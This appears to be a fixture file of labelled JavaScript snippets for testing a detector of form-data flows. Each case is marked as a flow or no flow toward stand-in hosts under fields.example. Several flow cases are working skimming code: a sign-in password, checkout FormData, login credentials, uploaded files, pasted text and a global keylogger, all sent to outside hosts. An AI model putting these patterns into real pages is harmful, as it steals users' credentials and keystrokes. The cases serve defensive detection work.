//# value-by-id-and-type
// flow: password > v.fields.example via fetch
const pw = document.querySelector('#signin input[type="password"]');
fetch('https://v.fields.example/a', { method: 'POST', body: pw.value });

//# field-metadata
// no flow
// why: name, type, placeholder and length limit say nothing about what was typed
const el = document.querySelector('input[type=password]');
fetch('https://meta.fields.example/a', {
  method: 'POST',
  body: JSON.stringify({ n: el.name, t: el.type, p: el.placeholder, m: el.maxLength }),
});

//# formdata-whole
// flow: input > fd.fields.example via fetch
const fm = document.querySelector('form#checkout');
fm.onsubmit = (e) => {
  e.preventDefault();
  fetch('https://fd.fields.example/save', { method: 'POST', body: new FormData(fm) });
};

//# formdata-empty
// no flow
// why: a new FormData without a form is empty; only a constant is put in
const fd = new FormData();
fd.append('form', 'newsletter');
console.log(document.querySelector('input[type=email]').value);
fetch('https://empty.fields.example/save', { method: 'POST', body: fd });

//# csrf-token
// no flow
// why: a hidden anti-forgery token is set by the server, nobody types it
const token = document.querySelector('input[type=hidden][name=csrf_token]').value;
fetch('https://csrf.fields.example/keepalive', { method: 'POST', headers: { 'X-CSRF-Token': token } });

//# meta-csrf
// no flow
var t = $('meta[name="csrf-token"]').attr('content');
$.ajax({ url: 'https://meta2.fields.example/refresh', type: 'POST', headers: { 'X-CSRF-TOKEN': t } });

//# label-text
// no flow
// why: the caption of the field, not its value
const cap = document.querySelector('label[for=email]').textContent;
navigator.sendBeacon('https://label.fields.example/l', cap);

//# default-value
// flow: email > dv.fields.example via beacon
// why: the prefilled address is the person's own
navigator.sendBeacon('https://dv.fields.example/d', document.querySelector('input[type=email]').defaultValue);

//# elements-by-name
// flow: username > el.fields.example via xhr
// flow: password > el.fields.example via xhr
document.forms['login'].onsubmit = function () {
  var x = new XMLHttpRequest();
  x.open('POST', 'https://el.fields.example/auth');
  x.send('u=' + this.elements['username'].value + '&p=' + this.elements['password'].value);
  return false;
};

//# elements-count
// no flow
const count = document.forms[0].elements.length;
fetch('https://cnt.fields.example/?n=' + count);

//# contenteditable
// flow: message > ce.fields.example via fetch
const box = document.querySelector('div.chat-prompt[contenteditable=true]');
document.querySelector('#send').addEventListener('click', () => {
  fetch('https://ce.fields.example/chat', { method: 'POST', body: JSON.stringify({ prompt: box.innerText }) });
});

//# select-option
// flow: input > sel.fields.example via image
const sel = document.querySelector('select[name=size]');
sel.onchange = () => { new Image().src = 'https://sel.fields.example/o?v=' + sel.options[sel.selectedIndex].value; };

//# file-content
// flow: file > up.fields.example via fetch
document.querySelector('input[type=file]').onchange = async (e) => {
  const buf = await e.target.files[0].arrayBuffer();
  fetch('https://up.fields.example/put', { method: 'PUT', body: buf });
};

//# file-count
// no flow
// why: how many files were chosen, nothing of them
document.querySelector('input[type=file]').onchange = (e) => {
  navigator.sendBeacon('https://nfiles.fields.example/n', String(e.target.files.length));
};

//# file-local-preview
// no flow
// why: read for a preview in the page only
document.querySelector('input[type=file]').addEventListener('change', function () {
  const rd = new FileReader();
  rd.onload = () => { document.querySelector('#prev').src = rd.result; };
  rd.readAsDataURL(this.files[0]);
  fetch('https://prev.fields.example/opened', { method: 'POST' });
});

//# event-target-value
// flow: phone > etv.fields.example via fetch
document.querySelector('input[type=tel]').addEventListener('blur', (event) => {
  fetch(`https://etv.fields.example/partial?t=${encodeURIComponent(event.target.value)}`);
});

//# key-events
// flow: keystrokes > kl.fields.example via beacon
const log = [];
document.addEventListener('keydown', (e) => log.push([e.key, e.timeStamp]));
setInterval(() => navigator.sendBeacon('https://kl.fields.example/k', JSON.stringify(log.splice(0))), 5000);

//# key-compared-only
// flow: message > enter.fields.example via fetch
// why: near miss: the key is compared with Enter and not sent, the message is
const ta = document.querySelector('textarea[name=message]');
ta.addEventListener('keydown', (e) => {
  if (e.key === 'Enter') fetch('https://enter.fields.example/send', { method: 'POST', body: ta.value });
});

//# paste-event
// flow: input > paste.fields.example via fetch
document.addEventListener('paste', (e) => {
  fetch('https://paste.fields.example/p', { method: 'POST', body: e.clipboardData.getData('text/plain') });
});

//# clipboard-write
// no flow
// why: the page writes to the clipboard, and reports a constant
document.querySelector('#copy').onclick = async () => {
  await navigator.clipboard.writeText(document.querySelector('input[type=email]').value);
  navigator.sendBeacon('https://copied.fields.example/e', 'copied');
};

//# submit-button-caption
// no flow
// why: the value of a submit button is its caption
const btn = document.querySelector('input[type=submit]');
navigator.sendBeacon('https://btn.fields.example/form-shown', 'caption=' + btn.value);

//# field-written
// no flow
// why: the value is assigned, never read
const coupon = document.querySelector('input[type=email]');
coupon.value = 'guest@shop.example';
fetch('https://written.fields.example/prefilled');

//# password-shown
// no flow
// why: the eye button changes the type of the field
const eye = document.querySelector('input[type=password]');
document.querySelector('#eye').onclick = () => { eye.type = eye.type === 'password' ? 'text' : 'password'; };
fetch('https://eye.fields.example/policy.json');
